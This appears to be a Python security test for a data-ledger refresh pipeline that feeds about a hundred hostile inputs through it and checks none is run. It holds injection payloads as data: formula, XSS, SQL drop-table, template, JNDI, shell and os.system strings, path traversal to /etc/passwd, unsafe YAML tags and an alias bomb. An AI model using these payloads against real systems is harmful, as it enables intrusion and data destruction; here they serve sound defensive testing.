"""A hundred hostile texts in a copy of the ledger: none is run, each is kept as it is or refused."""

from __future__ import annotations

import json
import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

import duckdb

from orchestration.settings import ROOT
from tests.faults.world import Fault, Say, start_group, wait

_LINE = 100 << 20
_SECRET = "a secret of this machine\n"

# What each tries to leave behind, should anything run it; `{canary}` is a path.
_TEXTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("https://example.org","open")',
    "=cmd|'/C touch {canary}'!A0",
    '=WEBSERVICE("https://example.org/")',
    "\t=1+1",
    "%0A=1+1",
    '","=1+1","',
    "<script>document.title='owned'</script>",
    "<img src=x onerror=document.title='owned'>",
    "<svg/onload=document.title='owned'>",
    "</td></tr></table><script>document.title='owned'</script>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<a href='javascript:document.title=1'>open</a>",
    "[open](javascript:document.title=1)",
    "![x](https://example.org/pixel.png)",
    "<!--#exec cmd='touch {canary}'-->",
    "&lt;script&gt;&amp;#x41;",
    "'; drop table core.dim_deal; --",
    '"; drop table core.dim_deal; --',
    "' or '1'='1",
    "'); copy (select 1) to '{canary}'; --",
    "\\'; drop schema marts cascade; --",
    "$$ drop table core.dim_deal $$",
    "/* */ union select 1 --",
    "; attach '{canary}' as x;",
    "{{ env_var('HOME') }}",
    "{{ run_query('drop table core.dim_deal') }}",
    "{% do run_query('drop table core.dim_deal') %}",
    "{# a comment that would vanish #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__} {x!r} %s %(x)s %n",
    "${jndi:ldap://example.org/a} ${HOME} $HOME",
    "$(touch {canary}) `touch {canary}`",
    "| touch {canary}",
    "__import__('os').system('touch {canary}')",
    "\x1b[2J\x1b[31mgone",
    "\x1b]8;;https://example.org\x07open\x1b]8;;\x07",
    "\x1b]0;owned\x07",
    "\x9b31m",
    "bell\x07 back\x08space",
    "nul\x00here",
    "carriage\rreturn",
    "line\nfeed",
    "next\x85line",
    "line\u2028separator",
    "abc\u202efdp.exe",
    "\u2066isolate\u2069",
    "mark\u200eleft\u200fright",
    "zero\u200bwidth\ufeff",
    "OpenАI with a Cyrillic letter",
    "ＯｐｅｎＡＩ in full width",
    "e\u0301 decomposed, \xe9 composed",
    "شركة 数据中心 データ 😀",
    "\U000e0041\U000e0042 tags of plane 14",
    "Z\u0310\u0311\u0312\u0313\u0314\u0315\u0316\u0317\u0318a\u0319lgo",
    "null",
    "NaN",
    "1e999",
    "2026-11-25",
    "x" * 501,
    "   ",
)

_IDS = (
    "../../../etc/passwd",
    "..\\..\\windows",
    "a/b",
    "/absolute",
    "paper\x00",
    "Paper-One",
    "pаper-cyrillic",
    "paper--double",
    "paper one",
    "x" * 121,
)

_ADDRESSES = (
    "javascript:document.title=1",
    "JaVaScRiPt:document.title=1",
    "data:text/html,<script>1</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "//example.org/without-scheme",
    "https://openai.com@example.org/",
    "https://example.org/\"onmouseover='1'",
    "https://example.org/<script>",
    "https://exаmple.org/cyrillic",
)

_BOMB = "a: &a [x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\ndocuments: [*c]\n"

_FILES = {
    "tag-python": b"documents: !!python/object/apply:os.system ['touch {canary}']\n",
    "tag-new": b"documents:\n  - !!python/object/new:subprocess.Popen [['touch', '{canary}']]\n",
    "tag-escape": b"documents: !%1B%5B31m [x]\n",
    "alias-bomb": _BOMB.encode(),
    "merge": b"documents:\n  - <<: {id: merged}\n",
    "anchor": b"documents: &all []\n",
    "repeated-key": b"documents: []\ndocuments: []\n",
    "second-document": b"documents: []\n---\ndocuments: []\n",
    "directive": b"%YAML 1.1\n---\ndocuments: []\n",
    "deep": b"documents: " + b"[" * 100_000,
    "not-utf-8": b"documents:\n  - id: \xff\xfe\n",
    "utf-16": "documents: []\n".encode("utf-16"),
    "binary": bytes(range(256)) * 16,
    "escape-in-key": b'"\\e[31mkey": 1\n',
    "huge-number": b"documents: 1" + b"0" * 100_000 + b"\n",
}


@dataclass(frozen=True)
class Case:
    """A file that holds one hostile text."""

    name: str
    """Of the file, in the folder of documents, without its ending."""
    content: bytes
    text: str | None
    """What must stand in the release as it is, unless the file is refused; None: must be refused."""

    @property
    def file(self) -> str:
        return f"documents/{self.name}.yml"


def list_cases(canary: Path) -> list[Case]:
    """Return the hundred, but for the one long line."""

    def fill(text: str) -> str:
        return text.replace("{canary}", str(canary))

    texts = [
        Case(f"hostile-text-{number}", _write(f"hostile-text-{number}", fill(text)), fill(text))
        for number, text in enumerate(_TEXTS)
    ]
    ids = [
        Case(f"hostile-id-{number}", _write(record_id, "A title"), None)
        for number, record_id in enumerate(_IDS)
    ]
    addresses = [
        Case(
            f"hostile-address-{number}",
            _write(f"hostile-address-{number}", "A title", url=address),
            None,
        )
        for number, address in enumerate(_ADDRESSES)
    ]
    files = [
        Case(f"hostile-{name}", content.replace(b"{canary}", bytes(canary)), None)
        for name, content in _FILES.items()
    ]
    return [*texts, *ids, *addresses, *files]


def _write(record_id: str, text: str, **others: str) -> bytes:
    document = {
        "id": record_id,
        "publisher": "A paper",
        "title": text,
        "note": text,
        "published_on": "2025-07-22",
        "tier": "tertiary",
        "read": "not_read",
        **others,
    }
    return json.dumps({"documents": [document]}).encode()


def take_in(folder: Path, say: Say) -> dict[str, object]:
    """Refresh from a copy of the ledger that holds them all; look where each has gone."""
    folder.mkdir(parents=True, exist_ok=True)
    canary = folder / "canary"
    ledger = folder / "ledger"
    shutil.copytree(ROOT / "sources" / "ledger", ledger)
    cases = write_cases(ledger, canary, longest_line=_LINE)
    settings = {
        "GIGALEDGER_LEDGER": str(ledger),
        "GIGALEDGER_WAREHOUSE": str(folder / "warehouse"),
        "GIGALEDGER_TODAY": "2026-11-25",
    }
    ended = wait(
        start_group([sys.executable, "-m", "orchestration.refresh"], env=settings), seconds=900
    )
    if ended.status != 0:
        raise Fault(f"the refresh failed:\n{ended.out}{ended.err}")
    require_harmless("the refresh", ended.out + ended.err)
    say("refreshed")
    with duckdb.connect(folder / "warehouse" / "gigaledger.duckdb", read_only=True) as connection:
        kept, refused = follow(connection, cases, "core.dim_source", "audit.quarantine")
    query = "select * from core.dim_source where source_id like 'hostile%'"
    for module, *arguments in (
        ("orchestration.query", "--sql", query),
        ("orchestration.query", "--sql", "select file, message, raw_text from audit.quarantine"),
        ("orchestration.failures",),
        ("orchestration.releases", "verify"),
        ("orchestration.releases", "list"),
        ("sources.ledger", "check", "--ledger", str(ledger)),
    ):
        told = wait(start_group([sys.executable, "-m", module, *arguments], env=settings))
        if not told.out:
            raise Fault(f"{module} said nothing:\n{told.err}")
        require_harmless(module, told.out + told.err)
        say(f"read through {module}")
    pages = [path for path in (folder / "warehouse").rglob("*.html")]
    for page in pages:
        if b"<script>document.title" in page.read_bytes():
            raise Fault(f"{page.name} holds a text as HTML")
    if canary.exists():
        raise Fault("a hostile text was run")
    return {
        "hostile texts": len(cases),
        "of them kept as they are": kept,
        "of them refused with file, line and remedy": refused,
        "run": 0,
        "pages of HTML looked through": len(pages),
    }


def write_cases(ledger: Path, canary: Path, *, longest_line: int) -> list[Case]:
    """Write the hundred into a ledger, and two files that are hostile by what they are."""
    line = Case("hostile-line", b"documents: " + b"x" * longest_line, None)
    cases = [*list_cases(canary), line]
    for case in cases:
        (ledger / case.file).write_bytes(case.content)
    secret = canary.with_name("secret.yml")
    secret.write_text(_SECRET)
    (ledger / "documents" / "hostile-link.yml").symlink_to(secret)
    (ledger / "documents" / "\x1b[31m.yml").write_text("documents: []\n")
    return cases


def follow(
    connection: duckdb.DuckDBPyConnection, cases: list[Case], kept_in: str, refused_in: str
) -> tuple[int, int]:
    """Return how many were kept as they are and how many were refused: each is one of both."""
    refusals = connection.execute(
        f"select file, line, remedy, raw_text from {refused_in}"
    ).fetchall()
    sources = connection.execute(f"select source_id, title, note from {kept_in}").fetchall()
    kept = refused = 0
    for case in cases:
        is_kept = (case.name, case.text, case.text) in sources
        is_refused = any(
            file == case.file and line and remedy for file, line, remedy, _ in refusals
        )
        if is_kept == is_refused:
            raise Fault(f"{case.file} is {'kept and refused' if is_kept else 'neither'}")
        kept += is_kept
        refused += is_refused
    if any(_SECRET.strip() in (raw_text or "") for *_, raw_text in refusals):
        raise Fault("what a link in the ledger leads to is published")
    return kept, refused


def require_harmless(whence: str, told: str) -> None:
    """Fail when a text could steer a terminal or turn the direction of writing."""
    for character in told:
        if character not in "\n\t" and (
            ord(character) < 0x20
            or 0x7F <= ord(character) < 0xA0
            or character in "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        ):
            raise Fault(f"{whence} sent U+{ord(character):04X} to the terminal")
